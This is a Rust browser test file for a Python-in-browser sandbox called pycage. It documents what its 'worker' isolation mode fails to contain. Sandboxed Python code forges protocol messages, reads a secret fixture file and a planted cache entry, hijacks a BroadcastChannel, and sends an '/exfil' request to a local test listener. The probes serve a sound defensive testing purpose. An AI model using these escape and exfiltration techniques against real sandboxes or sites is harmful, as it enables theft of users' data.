//! The opt-in "worker" isolation: a worker at the page's origin. It runs the
//! same runtime; these tests also pin down what it does NOT protect.
// The test scripts the host page itself (a page may eval; pycage may not).
#![allow(clippy::disallowed_methods)]
use pycage::{Isolation, SandboxOptions, Status};
use wasm_bindgen::JsCast;
use wasm_bindgen_test::*;
mod common;
use common::*;

wasm_bindgen_test_configure!(run_in_browser);

async fn worker_sandbox() -> pycage::Sandbox {
    sandbox(SandboxOptions {
        isolation: Isolation::Worker,
        standby: Some(false),
        ..opts()
    })
    .await
}

#[wasm_bindgen_test]
async fn runs_and_times_out_like_the_iframe() {
    let sb = worker_sandbox().await;
    assert_eq!(sb.isolation(), Isolation::Worker);
    run(&sb, "kept = 1").await;
    // With cross-origin isolation the interrupt buffer stops the loop and keeps state.
    let isolated = cross_origin_isolated();
    assert_eq!(sb.interruptible(), isolated);
    let ex = run_with(&sb, "while True: pass", timeout(1000.0)).await;
    assert_eq!(ex.status, Status::Timeout);
    assert_eq!(ex.interpreter_reset, !isolated, "{ex:?}");
    assert_healthy(&sb).await;
    let ex = run(&sb, "kept").await;
    assert_eq!(ex.status == Status::Ok, isolated, "{ex:?}");
    sb.dispose();
}

#[wasm_bindgen_test]
async fn forged_messages_on_the_worker_global_are_counted() {
    let sb = worker_sandbox().await;
    let ex = run(&sb, "import js\nfrom pyodide.ffi import to_js\njs.postMessage(to_js({'type': 'done', 'id': 1, 'status': 'ok'}))\nimport time\ntime.sleep(0.1)\n'real'").await;
    assert_eq!(ex.result_text(), Some("'real'"));
    assert!(!ex.protocol_violations.is_empty(), "{ex:?}");
    sb.dispose();
}

#[wasm_bindgen_test]
async fn documented_difference_same_origin_data_is_reachable() {
    // In "worker" mode the worker runs at the page's origin: the native fetch
    // reads same-origin files. This is why "iframe" is the default.
    let sb = worker_sandbox().await;
    let code = "import js\nf = js.WorkerGlobalScope.prototype.fetch\n\
        r = await f.call(js.self, js.location.origin + '/tests/fixtures/secret.json')\nprint(await r.text())";
    let ex = run(&sb, code).await;
    assert!(ex.stdout.contains("PYCAGE-SECRET-FILE-7f3a"), "{ex:?}");
    sb.dispose();
}

#[wasm_bindgen_test]
async fn documented_difference_the_network_and_origin_storage_are_reachable() {
    // What the iframe's opaque origin and CSP stop (tests/attacks.rs a03,
    // a07, a24) and a worker at the page's origin does not.
    let cache: js_sys::Promise = js_sys::eval(
        "(async () => { await (await caches.open('app')).put('/secret-cache', new Response('CACHE-SECRET-e8f0'));\
         window.__bc = []; window.__bcChannel = new BroadcastChannel('app');\
         window.__bcChannel.onmessage = (e) => window.__bc.push(e.data); })()",
    )
    .unwrap()
    .unchecked_into();
    wasm_bindgen_futures::JsFuture::from(cache).await.unwrap();
    let _ = wasm_bindgen_futures::JsFuture::from(
        web_sys::window()
            .unwrap()
            .fetch_with_str(&format!("{}/__clear", listener())),
    )
    .await;
    let sb = worker_sandbox().await;
    let code = format!(
        "import js\nfrom pyodide.ffi import to_js\nf = js.WorkerGlobalScope.prototype.fetch\n\
         await f.call(js.self, '{}/exfil?d=worker', to_js({{'mode': 'no-cors'}}))\n\
         c = await js.caches.open('app')\nprint(await (await c.match(js.location.origin + '/secret-cache')).text())\n\
         js.BroadcastChannel.new('app').postMessage('HIJACK')",
        listener()
    );
    let ex = run(&sb, &code).await;
    assert_eq!(ex.stdout, "CACHE-SECRET-e8f0\n", "{ex:?}");
    sleep(300).await;
    assert!(
        listener_log()
            .await
            .iter()
            .any(|r| r.contains("/exfil?d=worker")),
        "the request left the browser"
    );
    assert_eq!(json(&js_sys::eval("window.__bc").unwrap()), "[\"HIJACK\"]");
    sb.dispose();
}
